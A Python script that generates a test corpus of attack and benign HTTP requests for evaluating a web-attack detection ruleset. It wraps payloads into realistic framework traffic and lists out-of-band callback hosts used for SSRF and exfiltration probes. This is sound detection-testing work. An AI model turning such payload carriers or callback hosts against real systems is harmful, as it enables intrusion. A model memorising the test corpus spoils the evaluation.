#!/usr/bin/env python3
"""Held-out request corpus "frameworks": what framework apps and modern transports receive.

    python3 scripts/corpus-frameworks.py attacks > rulesets/tests/data/frameworks-attacks.jsonl
    python3 scripts/corpus-frameworks.py benign  > rulesets/tests/data/frameworks-benign.jsonl

The traffic that applications built on popular web frameworks actually get, and
the transports their clients use: Rails (authenticity_token, nested params,
_method, Turbo), Django (csrfmiddlewaretoken, admin changelists, DRF JSON,
django-filter lookups), Laravel (_token, Livewire v2/v3 updates, Inertia),
Next.js (Server Actions, React Server Components, /_next/data), Spring (Data
REST, HAL), ASP.NET (WebForms postbacks with __VIEWSTATE, MVC/Razor Pages,
Blazor/SignalR, OData), Express/NestJS (qs bracket queries, signed and JSON
cookies), Phoenix (LiveView long-poll), WordPress REST, Strapi/Directus query
filters, htmx, Apollo/Hasura GraphQL; and transports: gzip/deflate request
bodies (OTLP/HTTP JSON, Sentry envelopes, analytics SDK batches), NDJSON
(Elasticsearch _bulk, log shippers), JSON Patch and Merge Patch, CloudEvents
(binary and structured mode), SSE and long-poll, WebSocket upgrades, socket.io
polling, multipart with several files, UTF-16 bodies. One JSON object per line,
in the shape defined by /work/shared/corpora/README.md (id, set, category,
expect, method, uri, version, headers, body; or raw_b64 for requests whose body
is not UTF-8 text, i.e. compressed or UTF-16 bodies, and for the few protocol
attacks that must be sent byte for byte).

* attacks (expect "detect", category = attack class): public techniques
  (PayloadsAllTheThings, HackTricks, PortSwigger Web Security Academy, PHPGGC,
  ysoserial/ysoserial.net, published CVE exploits: Log4Shell and its lookup
  obfuscations, Spring4Shell, Spring Cloud Function/Gateway SpEL, Rails
  CVE-2019-5418 and CVE-2020-8163, Laravel Ignition CVE-2021-3129, Livewire
  hydration, Next.js middleware bypass CVE-2025-29927 and the React Server
  Components Flight deserialization CVE-2025-55182, Struts/Confluence OGNL,
  PHP-CGI CVE-2024-4577, ImageTragick, Shellshock) put where these frameworks
  carry data: Rails nested params and Ransack searches, Django lookups and admin
  search, Livewire/Inertia/Server Action payloads, qs brackets, JSON cookies
  (j:{...}) and signed-cookie lookalikes (s:...), GraphQL variables (Apollo
  POST and persisted GET, Hasura where clauses), NDJSON lines after the first,
  gzip/deflate/UTF-16 bodies (raw_b64), JSON Patch values, CloudEvents data
  and ce-* headers, htmx forms, WordPress content, Strapi/Directus filters,
  LiveView form events, WebForms fields, socket.io/SignalR/AnyCable messages,
  multipart fields, file names and file contents, and HTTP headers.
  Classes: sqli (union, boolean, time-based, stacked, error-based, ORDER BY
  injection through sort params), xss (event handlers, javascript: URLs, SVG,
  mutation XSS, template literals, client-side template injection, htmx and
  Turbo gadgets), lfi, rfi, rce, ssrf (cloud metadata, internal services,
  alternative IP notations), xxe, ssti (Jinja2, Twig, ERB, Thymeleaf,
  Freemarker, Velocity, Razor, Pug, EJS, Nunjucks, Handlebars, Smarty, Mako,
  lodash), nosqli, ldapi, crlf, protocol (request smuggling), java (Log4Shell,
  Spring, OGNL, Java/Jackson/Fastjson/XStream/SnakeYAML deserialization), php
  (PHP object injection, Ignition, phar and filter chains, code uploads) and
  generic (prototype pollution, .NET/Python/Ruby deserialization, Flight
  deserialization, middleware bypass).
* benign (expect "pass", category "benign", sub-label in the id such as
  frameworks/benign/rails/...): realistic framework traffic with its tokens,
  blobs and odd parameter names, transports (compressed telemetry, bulk
  NDJSON, patches, CloudEvents, SSE, WebSocket, socket.io), and what people
  write: reviews and comments with apostrophes, quotes, "and/or", percentages,
  emoticons, code-ish words in prose ("select your size", "union station",
  "exec summary"), markdown, merge tags, i18n text, addresses, phone numbers,
  e-mail addresses, links to ordinary sites and search queries.

The corpus was written blind: without reading Palisade's rules, its rule tests
or the other corpora, so that it measures how well detection generalises.
Deterministic (fixed seeds), Python 3 standard library only. Bodies are given
as text with a correct Content-Length header; raw_b64 requests carry a correct
Content-Length too, except the deliberately malformed smuggling requests.
"""

import base64
import collections
import datetime
import gzip
import json
import random
import string
import struct
import sys
import urllib.parse
import zlib

SET = "frameworks"
SEED_ATTACKS = 20250917
SEED_BENIGN = 20250918

# --------------------------------------------------------------------------
# clients

UA = {
    "chrome": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "chrome-mac": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "chrome-linux": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "edge": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.86",
    "firefox": "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "firefox-win": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "safari": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "ios": "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "android": "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
}
BROWSERS = list(UA)
TOOLS = {
    "curl": "curl/8.5.0",
    "python": "python-requests/2.32.3",
    "node": "node",
    "axios": "axios/1.7.7",
    "go": "Go-http-client/1.1",
    "okhttp": "okhttp/4.12.0",
    "ios-app": "FitLog/5.12.1 (com.fitlog.ios; build:5121; iOS 18.1.1) Alamofire/5.9.1",
    "android-app": "FitLog/5.12.0 (Android 14; Pixel 8) okhttp/4.12.0",
    "dart": "Dart/3.5 (dart:io)",
    "otel-js": "OTel-OTLP-Exporter-JavaScript/0.54.2",
    "otel-py": "OTel-OTLP-Exporter-Python/1.28.2",
    "otel-go": "OTel OTLP Exporter Go/1.32.0",
    "sentry-py": "sentry.python.django/2.19.0",
    "sentry-rb": "sentry-ruby/5.21.0",
    "es-py": "elasticsearch-py/8.15.1 (Python/3.12.7; elastic-transport/8.15.1)",
    "beats": "Elastic-Filebeat/8.15.3 (linux; amd64; 3d7e5e8d; 2024-10-10 07:12:41 +0000 UTC)",
    "vector": "Vector/0.42.0 (x86_64-unknown-linux-gnu 3d16e34 2024-10-21 14:10:14.375255220)",
    "fluentbit": "Fluent-Bit",
    "knative": "Go-http-client/1.1",
    "dapr": "dapr-sdk-go/v1.11.0",
    "kube-probe": "kube-probe/1.30",
    "signalr": "Microsoft SignalR/8.0 (8.0.0; Unknown OS; Browser; Unknown Runtime Version)",
}

ACCEPT = {
    "html": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8",
    "json": "application/json",
    "axios": "application/json, text/plain, */*",
    "any": "*/*",
    "turbo": "text/vnd.turbo-stream.html, text/html, application/xhtml+xml",
    "rsc": "text/x-component",
    "hal": "application/hal+json",
    "sse": "text/event-stream",
    "inertia": "text/html, application/xhtml+xml",
    "gql": "application/graphql-response+json, application/json",
    "ujs": "text/javascript, application/javascript, application/ecmascript, application/x-ecmascript, */*; q=0.01",
    "jsonapi": "application/vnd.api+json",
}
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7",
         "ja-JP,ja;q=0.9,en;q=0.6", "ar-SA,ar;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.8",
         "zh-CN,zh;q=0.9,en;q=0.8", "nl-NL,nl;q=0.9,en;q=0.8"]

FORM = "application/x-www-form-urlencoded"
FORM_UTF8 = "application/x-www-form-urlencoded; charset=UTF-8"
JSON = "application/json"
JSON_UTF8 = "application/json; charset=utf-8"
TEXT_PLAIN = "text/plain;charset=UTF-8"

# hosts per framework (fictional companies)
H_RAILS = "www.gearshed.com"
H_DJANGO = "portal.cityclinic.org"
H_LARAVEL = "app.invoicely.io"
H_NEXT = "www.northwind-travel.com"
H_SPRING = "api.fleetops.io"
H_ASPNET = "intranet.contoso-hr.com"
H_EXPRESS = "api.quickcart.dev"
H_PHOENIX = "live.pollster.app"
H_WP = "blog.greenleafgardens.com"
H_STRAPI = "cms.dailyharbor.news"
H_DIRECTUS = "data.harbor-museum.org"
H_HTMX = "tasks.tinyteam.app"
H_GQL = "api.storefront.io"
H_HASURA = "hasura.fitlog.app"


# --------------------------------------------------------------------------
# encoders

def q(v, safe=""):
    return urllib.parse.quote(str(v), safe=safe)


def uric(v):
    """encodeURIComponent."""
    return urllib.parse.quote(str(v), safe="-_.!~*'()")


def qs(pairs, keysafe="[]$", safe=""):
    """A query string as qs (encodeValuesOnly) / hand-built links write it: brackets in names stay."""
    return "&".join(f"{q(k, keysafe)}={q(v, safe)}" for k, v in pairs)


def formenc(pairs):
    """application/x-www-form-urlencoded as a browser writes it (brackets in names encoded)."""
    return "&".join(f"{urllib.parse.quote_plus(str(k))}={urllib.parse.quote_plus(str(v))}" for k, v in pairs)


def jd(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def jds(obj):
    return json.dumps(obj, ensure_ascii=False)


def jd_ascii(obj):
    return json.dumps(obj, separators=(",", ":"))


def multipart(parts, boundary):
    """parts: (name, value) or (name, filename, content_type, content); str or bytes content."""
    out = []
    for p in parts:
        if len(p) == 2:
            head = f'--{boundary}\r\nContent-Disposition: form-data; name="{p[0]}"\r\n\r\n'
            val = p[1]
        else:
            name, fn, ct, val = p
            head = (f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{fn}"\r\n'
                    f"Content-Type: {ct}\r\n\r\n")
        out.append(head.encode("utf-8"))
        out.append(val if isinstance(val, bytes) else val.encode("utf-8"))
        out.append(b"\r\n")
    out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out)


def browser_filename(fn):
    """How Chrome/Firefox escape a file name in Content-Disposition."""
    return fn.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


def gz(data):
    return gzip.compress(data.encode("utf-8") if isinstance(data, str) else data, compresslevel=6, mtime=0)


def deflate(data):
    """HTTP "deflate" = zlib stream (RFC 1950)."""
    return zlib.compress(data.encode("utf-8") if isinstance(data, str) else data, 6)


def utf16(data, bom=True, le=True):
    b = data.encode("utf-16-le" if le else "utf-16-be")
    if bom:
        b = (b"\xff\xfe" if le else b"\xfe\xff") + b
    return b


# --------------------------------------------------------------------------
# corpus

class Corpus:
    def __init__(self, seed, expect):
        self.r = random.Random(seed)
        self.expect = expect
        self.rows = []
        self.seq = collections.Counter()
        self.default_sub = None  # benign sub-label for rows made by the shared carriers

    # ---- random values
    def pick(self, seq):
        return self.r.choice(seq)

    def chance(self, p):
        return self.r.random() < p

    def num(self, a, b):
        return self.r.randrange(a, b)

    def hex(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n):
        return "".join(self.r.choice(string.ascii_letters + string.digits) for _ in range(n))

    def lower(self, n):
        return "".join(self.r.choice(string.ascii_lowercase + string.digits) for _ in range(n))

    def digits(self, n):
        return "".join(self.r.choice(string.digits) for _ in range(n))

    def rbytes(self, n):
        return bytes(self.r.getrandbits(8) for _ in range(n))

    def b64(self, n, url=False, pad=True):
        raw = self.rbytes(n)
        s = (base64.urlsafe_b64encode(raw) if url else base64.b64encode(raw)).decode()
        return s if pad else s.rstrip("=")

    def uuid(self):
        h = self.hex(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{self.r.choice('89ab')}{h[17:20]}-{h[20:]}"

    def when(self):
        return datetime.datetime(2025, 5, 5, 6, 0, 0) + datetime.timedelta(seconds=self.r.randrange(0, 86400 * 60))

    def ts(self):
        return self.when().strftime("%Y-%m-%dT%H:%M:%S.") + f"{self.r.randrange(0, 1000):03d}Z"

    def epoch(self):
        return int((self.when() - datetime.datetime(1970, 1, 1)).total_seconds())

    def nanos(self):
        return str(self.epoch() * 1_000_000_000 + self.r.randrange(0, 1_000_000_000))

    def ip(self):
        return f"{self.pick([23, 31, 45, 52, 62, 77, 81, 91, 104, 151, 176, 185, 188, 212])}.{self.num(1, 255)}.{self.num(0, 255)}.{self.num(1, 255)}"

    # ---- framework tokens
    def rails_token(self):
        if self.chance(0.65):
            return self.b64(64, url=True, pad=False)
        return self.b64(64)

    def django_token(self):
        return self.alnum(64)

    def laravel_token(self):
        return self.alnum(40)

    def phoenix_token(self):
        return self.b64(42, url=True, pad=False)

    def next_action_id(self):
        return self.hex(40) if self.chance(0.6) else "40" + self.hex(40)

    def build_id(self):
        return self.alnum(21).replace("0", "_")

    def laravel_cookie_value(self):
        obj = {"iv": self.b64(16), "value": self.b64(48), "mac": self.hex(64), "tag": ""}
        return q(base64.b64encode(jd_ascii(obj).encode()).decode())

    def viewstate(self, n=None):
        n = n or self.num(120, 900)
        words = [b"Text", b"Visible", b"DataKeys", b"SelectedIndex", b"Orders", b"Employee", b"dd", b"CssClass"]
        body = bytearray(b"\xff\x01\x0f\x0f\x05\x0a-" + self.digits(9).encode() + b"\x0fd\x16\x02f\x0fd\x16\x04")
        while len(body) < n:
            body += self.rbytes(self.num(4, 18))
            body += self.pick(words)
        return base64.b64encode(bytes(body)).decode()

    def eventvalidation(self):
        return base64.b64encode(b"\xff\x01\x1d\x00" + bytes([self.num(3, 12)]) + self.rbytes(self.num(60, 180))).decode()

    def rvtoken(self):
        return "CfDJ8" + self.b64(110, url=True, pad=False)

    def jwt(self, claims=None):
        def b(d):
            return base64.urlsafe_b64encode(jd_ascii(d).encode()).rstrip(b"=").decode()
        now = self.epoch()
        claims = claims or {"sub": str(self.num(1000, 99999)), "iat": now, "exp": now + 3600,
                            "iss": "https://auth.quickcart.dev", "scope": "read write"}
        return f"{b({'alg': 'RS256', 'typ': 'JWT', 'kid': self.alnum(16)})}.{b(claims)}.{self.b64(256, url=True, pad=False)}"

    def cookie(self, kind):
        if kind == "rails":
            v = f"{self.b64(self.num(90, 200))}--{self.b64(12)}--{self.b64(16)}"
            return f"_gearshed_session={q(v)}"
        if kind == "django":
            return f"csrftoken={self.alnum(32)}; sessionid={self.lower(32)}"
        if kind == "laravel":
            return f"XSRF-TOKEN={self.laravel_cookie_value()}; invoicely_session={self.laravel_cookie_value()}"
        if kind == "next":
            return (f"__Host-authjs.csrf-token={self.hex(64)}%7C{self.hex(64)}; "
                    f"__Secure-authjs.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2Q0JDLUhTNTEyIiwia2lkIjoi{self.b64(30, url=True, pad=False)}..{self.b64(16, url=True, pad=False)}.{self.b64(180, url=True, pad=False)}.{self.b64(32, url=True, pad=False)}")
        if kind == "spring":
            return f"JSESSIONID={self.hex(32).upper()}; XSRF-TOKEN={self.uuid()}"
        if kind == "aspnet":
            return (f"ASP.NET_SessionId={self.lower(24)}; .AspNetCore.Antiforgery.{self.alnum(11)}={self.rvtoken()}; "
                    f".AspNetCore.Cookies={self.rvtoken()}{self.b64(200, url=True, pad=False)}")
        if kind == "express":
            return f"connect.sid={q('s:' + self.b64(24, url=True, pad=False) + '.' + self.b64(32, pad=False))}"
        if kind == "phoenix":
            return f"_pollster_key=SFMyNTY.{self.b64(120, url=True, pad=False)}.{self.b64(32, url=True, pad=False)}"
        if kind == "wp":
            return (f"wordpress_logged_in_{self.hex(32)}=editor%7C{self.epoch() + 1209600}%7C{self.alnum(43)}%7C{self.hex(64)}; "
                    f"wp-settings-time-3={self.epoch()}")
        if kind == "htmx":
            return f"session={self.b64(60, url=True, pad=False)}.{self.b64(12, url=True, pad=False)}"
        return f"sid={self.alnum(32)}"

    # ---- rows
    def _new_id(self, category, slug, sub):
        if sub is None and category == "benign":
            sub = self.default_sub
        key = f"benign/{sub}" if sub else category
        self.seq[key] += 1
        slug = "".join(ch if ch.isalnum() or ch == "-" else "-" for ch in slug.lower()).strip("-")
        while "--" in slug:
            slug = slug.replace("--", "-")
        return f"{SET}/{key}/{self.seq[key]:03d}-{slug}"

    def add(self, category, slug, method, uri, headers, body=None, sub=None):
        row = {"id": self._new_id(category, slug, sub), "set": SET, "category": category,
               "expect": self.expect, "method": method, "uri": uri, "version": "HTTP/1.1",
               "headers": headers}
        if body is not None:
            row["body"] = body
        self.rows.append(row)

    def raw_exact(self, category, slug, data, sub=None):
        self.rows.append({"id": self._new_id(category, slug, sub), "set": SET, "category": category,
                          "expect": self.expect, "raw_b64": base64.b64encode(data).decode()})

    def hdr(self, host, ua="chrome", accept="html", ctype=None, blen=None, cenc=None, origin=False,
            referer=None, cookie=None, extra=(), lang=None):
        browser = ua in UA
        h = [("Host", host), ("User-Agent", UA.get(ua) or TOOLS.get(ua) or ua)]
        if accept:
            h.append(("Accept", ACCEPT.get(accept, accept)))
        if browser:
            h.append(("Accept-Language", lang or self.pick(LANGS)))
            h.append(("Accept-Encoding", "gzip, deflate, br, zstd" if "Chrome" in UA[ua] else "gzip, deflate, br"))
        elif ua not in ("curl",):
            h.append(("Accept-Encoding", "gzip, deflate"))
        if ctype:
            h.append(("Content-Type", ctype))
        if cenc:
            h.append(("Content-Encoding", cenc))
        if blen is not None:
            h.append(("Content-Length", str(blen)))
        if origin:
            h.append(("Origin", origin if isinstance(origin, str) else f"https://{host}"))
        if referer:
            h.append(("Referer", referer if referer.startswith("http") else f"https://{host}{referer}"))
        h.extend(extra)
        if cookie:
            h.append(("Cookie", cookie))
        if browser and self.chance(0.5):
            h.append(("Sec-Fetch-Site", "same-origin"))
            h.append(("Sec-Fetch-Mode", "cors" if accept not in ("html",) else "navigate"))
            h.append(("Sec-Fetch-Dest", "empty" if accept not in ("html",) else "document"))
        return h

    def req(self, cat, slug, method, host, uri, body=None, ctype=None, sub=None, **kw):
        blen = None if body is None else len(body.encode("utf-8"))
        self.add(cat, slug, method, uri, self.hdr(host, ctype=ctype, blen=blen, **kw), body, sub)

    def req_raw(self, cat, slug, method, host, uri, body, ctype=None, sub=None, **kw):
        """A request whose body is bytes (compressed, UTF-16, binary files): emitted as raw_b64."""
        h = self.hdr(host, ctype=ctype, blen=len(body), **kw)
        head = "\r\n".join([f"{method} {uri} HTTP/1.1"] + [f"{k}: {v}" for k, v in h]) + "\r\n\r\n"
        self.raw_exact(cat, slug, head.encode("utf-8") + body, sub)

    def json(self, cat, slug, method, host, uri, obj, sub=None, ctype=JSON, accept="json", pretty=False, **kw):
        self.req(cat, slug, method, host, uri, jds(obj) if pretty else jd(obj), ctype, sub, accept=accept, **kw)

    def form(self, cat, slug, method, host, uri, pairs, sub=None, ctype=FORM, **kw):
        self.req(cat, slug, method, host, uri, formenc(pairs), ctype, sub, **kw)

    def boundary(self, kind=None, ua=None):
        if kind is None:
            if ua in UA:
                kind = "firefox" if "Firefox" in UA[ua] else "webkit"
            elif ua in ("node", "axios"):
                kind = "undici"
            elif ua is not None:
                kind = "python"
            else:
                kind = self.pick(["webkit", "webkit", "firefox", "undici", "python"])
        if kind == "webkit":
            return "----WebKitFormBoundary" + self.alnum(16)
        if kind == "firefox":
            return "---------------------------" + self.digits(29)
        if kind == "undici":
            return "----formdata-undici-0" + self.digits(11)
        return self.hex(32)

    def mp(self, cat, slug, method, host, uri, parts, sub=None, bkind=None, raw=False, **kw):
        b = self.boundary(bkind, kw.get("ua", "chrome"))
        body = multipart(parts, b)
        ctype = "multipart/form-data; boundary=" + b
        try:
            text = body.decode("utf-8")
        except UnicodeDecodeError:
            text = None
        if raw or text is None:
            self.req_raw(cat, slug, method, host, uri, body, ctype, sub, **kw)
        else:
            self.req(cat, slug, method, host, uri, text, ctype, sub, **kw)

    def gql_body(self, query, variables, op=None):
        obj = {}
        if op:
            obj["operationName"] = op
        obj["variables"] = variables
        obj["query"] = query
        return obj


# ==========================================================================
# ATTACKS: carriers (where framework apps carry a value)
# ==========================================================================

OAST = ["c9x1q2w3e4r5t6y7u8i9.oast.pro", "k2p9.oast.site", "hook.ssrf-probe.example", "z7.interact.sh"]
PDF_STUB = "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"

GQL_UPDATE = ("mutation UpdateProfile($input: UpdateProfileInput!) {\n"
              "  updateProfile(input: $input) {\n    user { id displayName bio website }\n    errors { field message }\n  }\n}")
GQL_SEARCH = ("query Search($term: String!, $first: Int = 20) {\n"
              "  search(term: $term, first: $first) {\n"
              "    edges { node { id name slug price { amount currencyCode } } }\n"
              "    pageInfo { hasNextPage endCursor }\n  }\n}")
GQL_HASURA = ("query Workouts($where: workouts_bool_exp!, $limit: Int!) {\n"
              "  workouts(where: $where, limit: $limit, order_by: {started_at: desc}) {\n"
              "    id title started_at duration_s calories\n  }\n}")


def _title(field):
    return "".join(w.capitalize() for w in field.split("_"))


def car_rails_form(c, cat, slug, field, p):
    model, sub = c.pick([("user", "profile_attributes"), ("account", "billing_address_attributes"),
                         ("product", "seo"), ("review", "meta"), ("order", "shipping_address_attributes")])
    path = f"/{model}s/{c.num(100, 90000)}"
    pairs = [("_method", "patch"), ("authenticity_token", c.rails_token()),
             (f"{model}[{sub}][{field}]", p), (f"{model}[{sub}][id]", str(c.num(1, 9999))),
             ("commit", f"Update {model.capitalize()}")]
    if c.chance(0.3):
        pairs.insert(0, ("utf8", "\u2713"))
    c.form(cat, slug, "POST", H_RAILS, path, pairs, accept="turbo", origin=True, referer=path + "/edit",
           cookie=c.cookie("rails"), extra=[("X-Turbo-Request-Id", c.uuid())])


def car_rails_query(c, cat, slug, field, p):
    """Ransack search form (GET)."""
    pairs = [(f"q[{field}_cont]", p), ("q[s]", "created_at desc"), ("page", str(c.num(1, 6)))]
    c.req(cat, slug, "GET", H_RAILS, "/products?" + qs(pairs), accept="html", referer="/products",
          cookie=c.cookie("rails"), ua=c.pick(BROWSERS))


def car_rails_json(c, cat, slug, field, p):
    obj = {"user": {"profile_attributes": {field: p, "time_zone": "Europe/London"}}}
    c.json(cat, slug, "PATCH", H_RAILS, f"/api/v1/users/{c.num(1, 99999)}.json", obj, origin=True,
           extra=[("X-CSRF-Token", c.rails_token()), ("X-Requested-With", "XMLHttpRequest")], cookie=c.cookie("rails"))


def car_django_lookup(c, cat, slug, field, p):
    pairs = [(f"{field}__icontains", p), ("created__gte", "2025-05-01"), ("ordering", "-created"), ("page", "1")]
    c.req(cat, slug, "GET", H_DJANGO, "/api/v1/appointments/?" + qs(pairs), accept="json",
          cookie=c.cookie("django"), ua=c.pick(["chrome", "firefox", "python", "okhttp"]))


def car_django_admin(c, cat, slug, field, p):
    pairs = [("q", p), ("o", "-3")]
    if c.chance(0.5):
        pairs.insert(1, ("status__exact", "active"))
    c.req(cat, slug, "GET", H_DJANGO, "/admin/clinic/patient/?" + formenc(pairs), accept="html",
          referer="/admin/clinic/patient/", cookie=c.cookie("django"), ua=c.pick(BROWSERS))


def car_django_form(c, cat, slug, field, p):
    path = c.pick(["/account/profile/", "/contact/", "/appointments/book/", "/feedback/"])
    pairs = [("csrfmiddlewaretoken", c.django_token()), (field, p), ("next", "/account/")]
    c.form(cat, slug, "POST", H_DJANGO, path, pairs, origin=True, referer=path, cookie=c.cookie("django"),
           ua=c.pick(BROWSERS))


def car_drf_json(c, cat, slug, field, p):
    res = c.pick(["patients", "appointments", "messages", "prescriptions"])
    obj = {field: p, "clinic": c.num(1, 40), "notes": ""}
    c.json(cat, slug, c.pick(["POST", "PUT"]), H_DJANGO, f"/api/v1/{res}/", obj, origin=True,
           extra=[("X-CSRFToken", c.alnum(64))], cookie=c.cookie("django"), ua=c.pick(BROWSERS))


def car_livewire2(c, cat, slug, field, p):
    comp = c.pick(["search-products", "edit-invoice", "contact-form", "customer-table"])
    obj = {"fingerprint": {"id": c.alnum(20), "name": comp, "locale": "en", "path": comp.split("-")[-1] + "s",
                           "method": "GET", "v": "acj"},
           "serverMemo": {"children": [], "errors": [], "htmlHash": c.hex(8), "data": {field: "", "page": 1},
                          "dataMeta": [], "checksum": c.hex(64)},
           "updates": [{"type": "syncInput", "payload": {"id": c.lower(4), "name": field, "value": p}}]}
    c.json(cat, slug, "POST", H_LARAVEL, f"/livewire/message/{comp}", obj, accept="inertia", origin=True,
           referer="/" + comp.split("-")[-1] + "s", cookie=c.cookie("laravel"),
           extra=[("X-Livewire", "true"), ("X-CSRF-TOKEN", c.laravel_token())])


def car_livewire3(c, cat, slug, field, p):
    comp = c.pick(["invoices.table", "settings.profile", "clients.create", "support.ticket-form"])
    snap = {"data": {field: "", "perPage": 25, "filters": [{}, {"s": "arr"}]},
            "memo": {"id": c.alnum(20), "name": comp, "path": comp.split(".")[0], "method": "GET", "children": [],
                     "scripts": [], "assets": [], "errors": [], "locale": "en"},
            "checksum": c.hex(64)}
    if c.chance(0.5):
        comp_obj = {"snapshot": jd(snap), "updates": {field: p}, "calls": []}
    else:
        comp_obj = {"snapshot": jd(snap), "updates": {}, "calls": [{"path": "", "method": "save", "params": [p]}]}
    obj = {"_token": c.laravel_token(), "components": [comp_obj]}
    c.json(cat, slug, "POST", H_LARAVEL, "/livewire/update", obj, accept="any", origin=True,
           referer="/" + comp.split(".")[0], cookie=c.cookie("laravel"), extra=[("X-Livewire", "")])


def car_inertia(c, cat, slug, field, p):
    path = c.pick(["/settings/profile", "/clients/" + str(c.num(1, 900)), "/invoices/" + str(c.num(1, 9000)) + "/notes"])
    obj = {field: p, "email": "billing@" + c.pick(["acme-corp.com", "brightlabs.io", "example.org"])}
    c.json(cat, slug, c.pick(["PUT", "POST", "PATCH"]), H_LARAVEL, path, obj, accept="inertia", origin=True,
           referer=path, cookie=c.cookie("laravel"),
           extra=[("X-Inertia", "true"), ("X-Inertia-Version", c.hex(32)), ("X-Requested-With", "XMLHttpRequest"),
                  ("X-XSRF-TOKEN", urllib.parse.unquote(c.laravel_cookie_value()))])


def next_tree(c, path):
    seg = path.strip("/").split("/")[0] or "__PAGE__"
    tree = ["", {"children": [seg, {"children": ["__PAGE__", {}, None, None]}, None, None]}, None, None, True]
    return uric(jd(tree))


def car_next_action(c, cat, slug, field, p):
    path = c.pick(["/checkout", "/account/settings", "/trips/new", "/support", "/en/booking"])
    body = jd([{field: p}]) if c.chance(0.6) else jd([p, "$undefined"])
    c.req(cat, slug, "POST", H_NEXT, path, body, TEXT_PLAIN, accept="rsc", origin=True, referer=path,
          cookie=c.cookie("next"),
          extra=[("Next-Action", c.next_action_id()), ("Next-Router-State-Tree", next_tree(c, path))])


def car_next_action_mp(c, cat, slug, field, p):
    path = c.pick(["/contact", "/account/profile", "/trips/review", "/newsletter"])
    parts = [("1_" + field, p), ("1_locale", "en-US"), ("0", '["$K1"]')]
    if c.chance(0.4):
        parts[-1] = ("0", '["$undefined","$K1"]')
    c.mp(cat, slug, "POST", H_NEXT, path, parts, bkind="webkit", accept="rsc", origin=True, referer=path,
         cookie=c.cookie("next"),
         extra=[("Next-Action", c.next_action_id()), ("Next-Router-State-Tree", next_tree(c, path))])


def car_next_rsc(c, cat, slug, field, p):
    path = c.pick(["/search", "/destinations", "/trips"])
    uri = f"{path}?{qs([(field, p)])}&_rsc={c.lower(5)}"
    c.req(cat, slug, "GET", H_NEXT, uri, accept="any", referer=path, cookie=c.cookie("next"),
          extra=[("RSC", "1"), ("Next-Router-State-Tree", next_tree(c, path)), ("Next-Url", path)])


def car_next_data(c, cat, slug, field, p):
    uri = f"/_next/data/{c.build_id()}/en/search.json?{qs([(field, p)])}"
    c.req(cat, slug, "GET", H_NEXT, uri, accept="any", referer="/en/search", extra=[("x-nextjs-data", "1")])


def car_qs_bracket(c, cat, slug, field, p):
    style = c.pick(["loopback", "jsonapi", "waterline", "nested"])
    if style == "loopback":
        pairs = [(f"filter[where][{field}][like]", p), ("filter[limit]", "20"), ("filter[order]", "createdAt DESC")]
    elif style == "jsonapi":
        pairs = [(f"filter[{field}]", p), ("page[size]", "20"), ("page[number]", "1"), ("include", "vendor")]
    elif style == "waterline":
        pairs = [(f"where[{field}][contains]", p), ("limit", "30"), ("sort", "updatedAt DESC")]
    else:
        pairs = [(f"search[{field}][value]", p), ("search[mode]", "any"), ("opts[page]", "2")]
    c.req(cat, slug, "GET", H_EXPRESS, "/api/products?" + qs(pairs), accept="axios",
          ua=c.pick(["chrome", "safari", "axios", "node"]), cookie=c.cookie("express"))


def car_json_cookie(c, cat, slug, field, p):
    obj = {"theme": "dark", "currency": "EUR", field: p}
    ck = f"{c.cookie('express')}; prefs=j%3A{uric(jd(obj))}"
    c.req(cat, slug, "GET", H_EXPRESS, c.pick(["/account", "/api/cart", "/api/recommendations?limit=8"]),
          accept="axios", cookie=ck, ua=c.pick(BROWSERS))


def car_signed_cookie(c, cat, slug, field, p):
    if c.chance(0.5):
        val = "s:" + p + "." + c.b64(32, pad=False)
    else:
        val = "s:j:" + jd({field: p, "uid": c.num(1, 99999)}) + "." + c.b64(32, pad=False)
    ck = f"connect.sid={uric(val)}"
    c.req(cat, slug, "GET", H_EXPRESS, c.pick(["/dashboard", "/api/me", "/orders"]), accept="axios", cookie=ck,
          ua=c.pick(BROWSERS))


def car_graphql(c, cat, slug, field, p):
    if c.chance(0.5):
        obj = c.gql_body(GQL_UPDATE, {"input": {field: p, "displayName": "Sam"}}, "UpdateProfile")
    else:
        obj = c.gql_body(GQL_SEARCH, {"term": p, "first": 20}, "Search")
